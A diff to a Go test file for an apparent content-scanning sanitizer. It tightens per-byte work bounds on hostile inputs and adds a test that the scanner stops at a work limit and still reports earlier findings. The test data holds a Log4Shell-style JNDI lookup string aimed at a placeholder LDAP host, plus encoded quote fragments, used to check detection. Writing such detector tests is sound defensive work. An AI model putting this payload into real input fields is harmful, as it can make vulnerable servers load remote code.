@@ -2,12 +2,17 @@ package sanitize_test
 
 import (
 	"encoding/base64"
+	"errors"
+	"fmt"
+	"reflect"
 	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"icapd/sanitize"
+	"icapd/sanitize/eval/evaltest"
+	"icapd/scan"
 )
 
 // hostile are values made to cost time, a MiB each.
@@ -125,9 +130,9 @@ func TestHostile(t *testing.T) {
 }
 
 // TestHostileFields holds the work for many short fields of the same: what is done once a separator or a sign in them shows
-// there.
+// there. What a document has of it, the work for an item bounds.
 func TestHostileFields(t *testing.T) {
-	const each = 150 // bytes passed over for a byte
+	const each = 400 // work for a byte
 	e := builtin(t)
 	for name, value := range hostile() {
 		for _, size := range []int{40, 190} {
@@ -135,7 +140,7 @@ func TestHostileFields(t *testing.T) {
 			layered := slices.Concat([]byte("%27"), plain, []byte(`&#39; \x3c`))
 			for _, v := range [][]byte{plain, layered} {
 				if work := sanitize.Work(e, v); work > each*len(v) {
-					t.Errorf("%s: %d bytes of work for the %d of %q", name, work, len(v), v)
+					t.Errorf("%s: work of %d for the %d bytes of %q", name, work, len(v), v)
 				}
 			}
 		}
@@ -143,17 +148,63 @@ func TestHostileFields(t *testing.T) {
 }
 
 // TestHostileWork holds that the work for hostile values grows as their size does, up to a bound for each byte. It
-// counts bytes and takes no time.
+// takes no time.
 func TestHostileWork(t *testing.T) {
-	const small, large, each = 16 << 10, 256 << 10, 120
+	const small, large, each, little = 16 << 10, 256 << 10, 150, 16
 	e := builtin(t)
 	for name, value := range hostile() {
-		little, much := sanitize.Work(e, []byte(value[:small])), sanitize.Work(e, []byte(value[:large]))
+		work, much := sanitize.Work(e, []byte(value[:small])), sanitize.Work(e, []byte(value[:large]))
 		if much > each*large {
-			t.Errorf("%s: %d bytes of work for %d", name, much, large)
+			t.Errorf("%s: work of %d for %d bytes", name, much, large)
 		}
-		if limit := little * (large / small) * 3 / 2; much > limit {
-			t.Errorf("%s: %d bytes of work for %d, and %d for %d", name, much, large, little, small)
+		if limit := max(work*(large/small)*3/2, little*large); much > limit {
+			t.Errorf("%s: work of %d for %d bytes, and of %d for %d", name, much, large, work, small)
 		}
+	}
+}
+
+// TestItemWork holds that a document which is made to take work is given up with a gap once it took what its size allows,
+// that what was found until then is reported, and that ordinary documents of any size take less.
+func TestItemWork(t *testing.T) {
+	e := builtin(t)
+	scanned := func(fields []scan.Field) ([]scan.Finding, error) {
+		it := document(nil, "application/json")
+		it.Fields = replay(fields)
+		return e.Scan(t.Context(), it)
+	}
+	hostile := []scan.Field{{Kind: scan.KindString, Value: []byte("${jndi:ldap://a.example/x}")}}
+	for i := range 20000 {
+		hostile = append(hostile, scan.Field{Kind: scan.KindString, Value: fmt.Appendf(nil, `%%27%d a.||b.||&#39; \x3c`, i)})
+	}
+	found, err := scanned(hostile)
+	var gap *scan.Gap
+	if !errors.As(err, &gap) || gap.Reason != scan.ReasonLimit || gap.Limit != "work" {
+		t.Errorf("the gap is %v", err)
+	}
+	if len(found) == 0 || found[0].Class != "jndi" {
+		t.Errorf("%d findings", len(found))
+	}
+	again, _ := scanned(hostile)
+	if !reflect.DeepEqual(found, again) {
+		t.Error("other findings when asked again")
+	}
+	if _, err := scanned(slices.Repeat(hostile[1:2], len(hostile))); err != nil {
+		t.Errorf("a value that is known to be clean costs as much when it stands there again: %v", err)
+	}
+
+	var ordinary []scan.Field
+	for len(ordinary) < 100_000 {
+		for _, doc := range evaltest.Benign(t) {
+			it := document(doc, "application/json")
+			if err := it.Fields(t.Context(), func(f *scan.Field) bool {
+				ordinary = append(ordinary, *f)
+				return true
+			}); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	if _, err := scanned(ordinary); err != nil {
+		t.Error(err)
 	}
 }
